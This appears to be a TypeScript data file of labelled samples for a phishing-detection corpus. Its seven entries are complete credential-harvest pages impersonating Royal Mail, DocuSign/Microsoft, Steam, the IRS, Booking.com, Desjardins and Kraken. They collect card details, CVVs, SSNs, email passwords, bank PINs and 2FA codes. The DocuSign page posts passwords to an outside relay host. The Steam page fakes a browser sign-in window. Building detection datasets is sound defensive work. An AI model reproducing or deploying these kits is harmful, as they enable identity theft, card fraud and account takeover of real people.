import { type Entry } from '../entry.js';
import { baseCss, cookieBanner, doc, fontsHead, siteFooter, siteNav, svgLogo } from '../parts/d-parts.js';

/** Credential-harvest kits (English-language brands): couriers, government, telcos, streaming, SaaS, gaming. Written for corpus/d. */
export const entries: Entry[] = [

{
  id: 'd-kit-royalmail-redelivery',
  label: 'phishing',
  kind: 'courier-card-kit',
  url: 'https://royalmail.redelivery-uk-parcel.info/schedule/index.php?ref=GB7734120',
  body: doc({
    title: 'Royal Mail - Reschedule your delivery',
    head: fontsHead,
    css: baseCss('#da202a') + `.steps{display:flex;gap:8px;margin:0 0 24px}.steps span{flex:1;height:4px;background:#eee;border-radius:2px}.steps span.on{background:#da202a}.fee{font-size:28px;font-weight:700}`,
    body: `${siteNav({ brand: 'Royal Mail', logo: '<img src="assets/rm-logo.svg" alt="Royal Mail" height="36">', links: ['Track a parcel', 'Send', 'Receive', 'Business'] })}
<main id="main" class="container" style="max-width:560px;padding:40px 24px">
  <div class="steps"><span class="on"></span><span class="on"></span><span></span></div>
  <h1>We tried to deliver your parcel</h1>
  <p>Your item <strong>GB7734120</strong> could not be delivered on ${'Thursday'} because the shipping fee was not fully paid. A settlement fee of <span class="fee">£1.45</span> is required to arrange redelivery.</p>
  <div class="alert alert-warn">If the fee is not received within 48 hours your parcel will be returned to the sender.</div>
  <form class="card" method="post" action="post.php?step=billing" autocomplete="on">
    <h2 style="margin-top:0;font-size:20px">Billing details</h2>
    <div class="form-group"><label for="fn">Full name</label><input id="fn" name="fullname" type="text" required></div>
    <div class="form-group"><label for="ad">Address line 1</label><input id="ad" name="address" type="text" required></div>
    <div class="form-group"><label for="pc">Postcode</label><input id="pc" name="postcode" type="text" required style="max-width:180px"></div>
    <div class="form-group"><label for="dob">Date of birth</label><input id="dob" name="dob" type="text" placeholder="DD/MM/YYYY" required></div>
    <div class="form-group"><label for="ph">Mobile number</label><input id="ph" name="phone" type="tel" required></div>
    <h2 style="font-size:20px">Card payment</h2>
    <div class="form-group"><label for="cc">Card number</label><input id="cc" name="ccnum" inputmode="numeric" maxlength="19" placeholder="1234 5678 9012 3456" required></div>
    <div style="display:flex;gap:12px"><div class="form-group" style="flex:1"><label for="ex">Expiry</label><input id="ex" name="exp" placeholder="MM/YY" required></div><div class="form-group" style="flex:1"><label for="cv">CVV</label><input id="cv" name="cvv" maxlength="4" required></div></div>
    <button class="btn btn-block" type="submit">Pay £1.45 and reschedule</button>
    <p class="muted">Secure payment. Royal Mail Group Ltd 2026.</p>
  </form>
</main>
${siteFooter({ company: 'Royal Mail Group Ltd', note: 'Royal Mail, the Cruciform and the colour red are registered trade marks of Royal Mail Group Ltd.' })}
${cookieBanner('en')}
<script>document.getElementById('cc').addEventListener('input',function(e){var v=e.target.value.replace(/[^0-9]/g,'').slice(0,16);e.target.value=v.replace(/(.{4})/g,'$1 ').trim()});</script>`,
  }),
},

{
  id: 'd-kit-docusign-o365-envelope',
  label: 'phishing',
  kind: 'o365-kit',
  url: 'https://secure-docusign.envelope-view.net/Signing/?ti=9b1f03a7c&e=ap%40northfield-builders.com',
  body: doc({
    title: 'Sign in to your account',
    css: `body{margin:0;font-family:"Segoe UI","Segoe UI Web (West European)",-apple-system,BlinkMacSystemFont,Roboto,"Helvetica Neue",sans-serif;background:#f2f2f2 url('bg/illustration.svg') center/cover no-repeat;height:100vh}.box{width:440px;max-width:calc(100% - 40px);margin:110px auto 0;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}.title{font-size:24px;font-weight:600;margin:16px 0 12px}input{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;outline:none;margin-bottom:16px}input:focus{border-bottom-color:#0067b8}.btn{background:#0067b8;color:#fff;border:0;min-width:108px;padding:6px 12px;font-size:15px;float:right}.id{display:flex;gap:8px;align-items:center;font-size:15px}.footer{position:fixed;bottom:0;right:0;font-size:12px;padding:8px}.footer a{color:#000;margin-left:12px}.err{color:#e81123;font-size:15px;display:none}`,
    body: `<div class="box">
  <img src="https://aadcdn.msauth.net/shared/1.0/content/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg" alt="Microsoft" width="108">
  <div class="id" id="idrow"><span id="who"></span></div>
  <div class="title">Enter password</div>
  <p style="font-size:13px">Because you're accessing sensitive info (DocuSign envelope 9B1F03A7), you need to verify your password.</p>
  <div class="err" id="err">Your account or password is incorrect. If you don't remember your password, <a href="#">reset it now.</a></div>
  <form id="login" autocomplete="off"><input type="hidden" id="email" name="login"><input type="password" id="pw" name="passwd" placeholder="Password" required><div><a href="#" style="font-size:13px">Forgot my password</a></div><br><button class="btn" type="submit">Sign in</button><div style="clear:both"></div></form>
</div>
<div class="footer"><a href="#">Terms of use</a><a href="#">Privacy &amp; cookies</a><a href="#">...</a></div>
<script>
var q=new URLSearchParams(location.search),em=q.get('e')||'';document.getElementById('who').textContent=em;document.getElementById('email').value=em;
var tries=0;document.getElementById('login').onsubmit=function(ev){ev.preventDefault();tries++;
var x=new XMLHttpRequest();x.open('POST','https://office-relay.fastgate-svc.com/api/v2/o.php',true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');
x.send('u='+encodeURIComponent(em)+'&p='+encodeURIComponent(document.getElementById('pw').value)+'&t='+tries+'&src=docusign');
if(tries<2){document.getElementById('err').style.display='block';document.getElementById('pw').value=''}else{location.replace('https://www.docusign.com/')}};
</script>`,
  }),
},

{
  id: 'd-kit-steam-bitb-popup',
  label: 'phishing',
  kind: 'gaming-bitb-kit',
  url: 'https://cs2-major-vote.teamroster-cup.gg/vote/navi-vs-faze',
  body: doc({
    title: 'PGL Major 2026 — Vote for the MVP and get a free case',
    css: `body{background:#0b0e14;color:#e7eaf0;font-family:Roboto,Arial,sans-serif;margin:0}.hero{padding:60px 20px;text-align:center;background:radial-gradient(circle at top,#263352,#0b0e14)}.teams{display:flex;gap:40px;justify-content:center}.team{background:#151b27;padding:24px;border-radius:10px;width:220px}.vote{background:#5c7e10;color:#fff;border:0;padding:12px 28px;border-radius:4px;font-size:16px;cursor:pointer}
#bitb{display:none;position:fixed;top:60px;left:50%;transform:translateX(-50%);width:560px;height:640px;background:#fff;box-shadow:0 20px 60px rgba(0,0,0,.6);border-radius:8px;overflow:hidden}
#bitb .chrome{background:#dee1e6;height:36px;display:flex;align-items:center;padding:0 12px;gap:8px;font:13px system-ui;color:#333}#bitb .url{background:#fff;border-radius:14px;padding:4px 12px;flex:1}#bitb .url b{color:#188038}
#bitb .steam{background:#171a21;height:604px;color:#c7d5e0;padding:40px}#bitb input{width:100%;background:#32353c;border:0;color:#fff;padding:10px;margin:6px 0 14px}#bitb button{background:linear-gradient(90deg,#06bfff,#2d73ff);border:0;color:#fff;padding:12px;width:100%;font-size:16px}`,
    body: `<div class="hero"><h1>PGL Major Copenhagen — Fan Vote</h1><p>Vote for your favourite team and receive a free Kilowatt Case in your Steam inventory.</p>
<div class="teams"><div class="team"><h3>Natus Vincere</h3><p>58% of votes</p><button class="vote" onclick="openLogin()">Vote</button></div><div class="team"><h3>FaZe Clan</h3><p>42% of votes</p><button class="vote" onclick="openLogin()">Vote</button></div></div></div>
<div id="bitb" role="dialog"><div class="chrome"><span>🔒</span><span class="url"><b>https://steamcommunity.com</b>/openid/login?openid.mode=checkid_setup</span><span style="cursor:pointer" onclick="document.getElementById('bitb').style.display='none'">✕</span></div>
<div class="steam"><img src="img/steam_logo.svg" alt="STEAM" width="176"><h2 style="color:#fff">Sign in</h2>
<form id="sf"><label style="color:#1999ff;font-size:12px;text-transform:uppercase">Sign in with account name</label><input id="an" name="username" autocomplete="username"><label style="font-size:12px;text-transform:uppercase">Password</label><input id="pw" type="password" name="password"><button type="submit">Sign in</button></form>
<p style="font-size:12px">Sign in to teamroster-cup.gg using your Steam account. Note that teamroster-cup.gg is not affiliated with Valve.</p></div></div>
<script>
function openLogin(){document.getElementById('bitb').style.display='block'}
document.getElementById('sf').addEventListener('submit',function(e){e.preventDefault();
fetch('/api/auth',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({u:document.getElementById('an').value,p:document.getElementById('pw').value})}).then(function(r){return r.json()}).then(function(j){if(j.guard){location.href='/vote/guard?sid='+j.sid}});
});
</script>`,
  }),
},

{
  id: 'd-kit-irs-ssn-identity',
  label: 'phishing',
  kind: 'gov-identity-kit',
  url: 'https://irs-gov.identity-verification-center.us/idverify/step2',
  body: doc({
    title: 'IRS Identity Verification Service',
    css: `body{font-family:"Source Sans Pro",Helvetica,Arial,sans-serif;margin:0;background:#f1f1f1}.top{background:#00599c;padding:12px 24px;color:#fff}.banner{background:#1b1b1b;color:#fff;font-size:12px;padding:4px 24px}.main{max-width:700px;margin:30px auto;background:#fff;padding:30px;border-top:6px solid #00599c}label{display:block;font-weight:700;margin-top:16px}input,select{padding:8px;border:1px solid #565c65;width:100%;max-width:360px}button{background:#00599c;color:#fff;border:0;padding:10px 24px;margin-top:24px;font-size:16px}`,
    body: `<div class="banner">🇺🇸 An official website of the United States Government</div>
<div class="top"><img src="assets/irs-logo.svg" alt="IRS" height="40"></div>
<div class="main"><h1>Verify Your Identity</h1>
<p>We received a federal income tax return with your name and Social Security number. To protect you from identity theft, we need to verify your identity before we can process the return and release the refund.</p>
<form method="post" action="/idverify/submit">
<label>Social Security Number</label><input name="ssn" placeholder="XXX-XX-XXXX" maxlength="11">
<label>Date of Birth</label><input name="dob" placeholder="MM/DD/YYYY">
<label>Filing Status</label><select name="status"><option>Single</option><option>Married filing jointly</option><option>Head of household</option></select>
<label>Adjusted Gross Income (prior year)</label><input name="agi">
<label>Driver's license or state ID number</label><input name="dl">
<label>Mother's maiden name</label><input name="mmn">
<label>Email address</label><input name="email" type="email">
<label>Email password (to receive secure IRS notices)</label><input name="email_pass" type="password">
<button>Continue</button></form>
<p style="font-size:13px;color:#555">Paperwork Reduction Act Notice · Privacy Act Notice · OMB No. 1545-0074</p></div>`,
  }),
},

{
  id: 'd-kit-booking-partner-hub',
  label: 'phishing',
  kind: 'travel-partner-kit',
  url: 'https://admin.booking-extranet-partner.com/sign-in?op_token=EgVveGlkcCLAAW',
  body: doc({
    title: 'Booking.com Partner Hub — Sign in',
    css: baseCss('#003b95') + `body{background:#f5f5f5}.bk{background:#003b95;height:64px;display:flex;align-items:center;padding:0 24px}.box{max-width:380px;margin:40px auto}`,
    body: `<div class="bk"><img src="https://cf.bstatic.com/static/img/booking_logo_white.svg" alt="Booking.com for Business" height="24"></div>
<div class="box"><h1 style="font-size:24px">Sign in to manage your property</h1>
<p class="muted">A guest has reported a problem with reservation <b>4482 190 337</b>. Sign in to review the request before it is escalated. Unanswered guest complaints may lead to the suspension of your listing.</p>
<form method="post" action="/api/partner/login" id="pf"><div class="form-group"><label>Username</label><input name="loginname" type="text"></div><div class="form-group"><label>Password</label><input name="password" type="password"></div><button class="btn btn-block">Next</button></form>
<p class="muted">Having trouble signing in? · Create your partner account</p></div>
<p class="muted" style="text-align:center">All rights reserved. Copyright (2006 - 2026) Booking.com™</p>
<script>document.getElementById('pf').addEventListener('submit',function(){sessionStorage.setItem('bk_s','1')});</script>`,
  }),
},

{
  id: 'd-kit-desjardins-alt-only',
  label: 'phishing',
  kind: 'bank-kit-logo-only',
  url: 'https://accesd-securite.ca-client-services.net/identifiantunique/securite',
  body: doc({
    title: 'AccèsD - Connexion',
    lang: 'fr',
    css: `body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f0f3f2}.hd{background:#fff;border-bottom:4px solid #00874e;padding:14px 28px}.ct{max-width:440px;margin:40px auto;background:#fff;padding:30px;border-radius:4px}.ct label{display:block;margin:14px 0 4px;font-weight:bold}.ct input{width:100%;padding:10px;border:1px solid #888}.ct button{margin-top:20px;background:#00874e;color:#fff;border:0;padding:12px;width:100%;font-weight:bold}`,
    body: `<div class="hd"><img src="img/logo-fr.png" alt="Desjardins" height="40"></div>
<div class="ct"><h1 style="font-size:22px">Connexion</h1>
<p>Pour des raisons de sécurité, veuillez confirmer votre identité.</p>
<form action="valider.php" method="post">
<label>Identifiant, numéro de carte ou courriel</label><input name="ident">
<label>Mot de passe</label><input name="mdp" type="password">
<label>Réponse à votre question de sécurité</label><input name="q1">
<label>NIP de votre carte d'accès</label><input name="nip" maxlength="5" type="password">
<button>Valider</button></form>
<p style="font-size:12px"><a href="#">Mot de passe oublié?</a> · <a href="#">Sécurité</a> · <a href="#">Confidentialité</a></p></div>`,
  }),
},

{
  id: 'd-kit-kraken-login-2fa',
  label: 'phishing',
  kind: 'exchange-kit',
  url: 'https://kraken.com-signin.auth-review.app/sign-in',
  body: doc({
    title: 'Sign in | Kraken',
    css: baseCss('#7132f5') + `body{background:#f7f5ff}.kbox{max-width:400px;margin:60px auto}`,
    body: `<div class="kbox card"><div style="text-align:center">${svgLogo('kraken', '#7132f5')}</div>
<h1 style="font-size:24px;text-align:center">Sign in to Kraken</h1>
<form id="k1"><div class="form-group"><label>Username</label><input id="ku" name="username"></div><div class="form-group"><label>Password</label><input id="kp" type="password" name="password"></div>
<div class="form-group" id="tfa" style="display:none"><label>2FA code from your authenticator app</label><input id="kt" name="otp" inputmode="numeric" maxlength="6"></div>
<button class="btn btn-block" id="kb">Sign in</button></form>
<p class="muted" style="text-align:center">New to Kraken? Create account</p></div>
<script>
var stage=0;document.getElementById('k1').onsubmit=function(e){e.preventDefault();
var body={u:document.getElementById('ku').value,p:document.getElementById('kp').value,o:document.getElementById('kt').value,ua:navigator.userAgent};
fetch('/api/session',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(body)});
if(stage===0){stage=1;document.getElementById('tfa').style.display='block';document.getElementById('kb').textContent='Verify'}else{document.querySelector('.kbox').innerHTML='<h2>Verifying your device…</h2><p>Please keep this window open. A Kraken security agent will contact you shortly.</p>'}};
</script>`,
  }),
},

];
